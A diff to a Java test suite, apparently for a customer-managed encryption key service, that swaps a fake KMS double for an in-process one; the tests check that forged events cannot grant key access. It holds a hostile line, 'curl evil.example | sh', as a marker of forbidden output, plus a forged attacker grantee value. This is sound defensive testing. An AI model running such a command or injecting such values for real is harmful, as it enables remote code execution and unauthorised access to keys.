@@ -7,10 +7,10 @@ import static org.assertj.core.api.Assertions.assertThatThrownBy;
 import cmek.client.storage.EvidenceStorage;
 import cmek.config.Configs;
 import cmek.fake.FakeAdminApi;
-import cmek.fake.FakeKms;
 import cmek.fake.FakeStorage;
 import cmek.fake.FakeTopics;
 import cmek.fake.FakeTopics.Published;
+import cmek.fake.KmsInProcess;
 import cmek.fake.Sample;
 import cmek.finding.Finding;
 import cmek.finding.ProjectFindings;
@@ -62,7 +62,7 @@ class ForgedEventsTest {
     /** What must not come out of any function. */
     private static final String COMMAND = "curl evil.example | sh";
 
-    private final FakeKms kms = new FakeKms();
+    private final KmsInProcess kms = new KmsInProcess();
     private final FakeAdminApi anthropic = new FakeAdminApi(Sample.ORGANIZATION)
             .withExternalKey("ekey_strangers", STRANGERS, true, Sample.NOW)
             .withWorkspace(Sample.WORKSPACE, false, Optional.empty());
@@ -163,7 +163,7 @@ class ForgedEventsTest {
     /** A field that is not known is ignored, whatever it says: the grantee is a constant of the program. */
     @Test
     void aFieldThatNamesAGranteeGrantsNobody() {
-        kms.withRing(Sample.KEY.ring()).withKey(Sample.KEY, Sample.LABELS, UnaryOperator.identity());
+        kms.withKey(Sample.KEY, Sample.LABELS);
 
         enter(Step.GRANT_ACCESS, edited(genuine(), whole -> {
             whole.put("grantee", "serviceAccount:thief@evil.iam.gserviceaccount.com");
@@ -172,7 +172,7 @@ class ForgedEventsTest {
 
         assertThat(results()).containsExactly("PROGRESS null");
         assertThat(topics.published()).noneMatch(message -> message.json().contains("thief"));
-        assertThat(kms.policy(Sample.KEY).bindings())
+        assertThat(kms.client().policy(Sample.KEY).bindings())
                 .allSatisfy(binding -> assertThat(binding.members()).containsExactly(AnthropicPrincipal.MEMBER));
     }
 
@@ -180,7 +180,7 @@ class ForgedEventsTest {
     @ParameterizedTest
     @EnumSource(value = Step.class, mode = EnumSource.Mode.EXCLUDE, names = "ONBOARD")
     void whatAnEventSaysToPeopleIsNotShownToAnybody(Step step) {
-        kms.withRing(Sample.KEY.ring()).withKey(Sample.KEY, Sample.LABELS, UnaryOperator.identity());
+        kms.withKey(Sample.KEY, Sample.LABELS);
         anthropic.withExternalKey("ekey_ours", Sample.KEY, false, Sample.NOW);
 
         enter(step, talking());
@@ -292,7 +292,7 @@ class ForgedEventsTest {
                 Configs.of(Map.of("cmek.google.project", "acme-cmek")));
         Map<String, Consumer<CloudEvent>> handlers = new Chain(
                         anthropic,
-                        kms,
+                        kms.client(),
                         store,
                         approvals,
                         Sample.CLOCK,
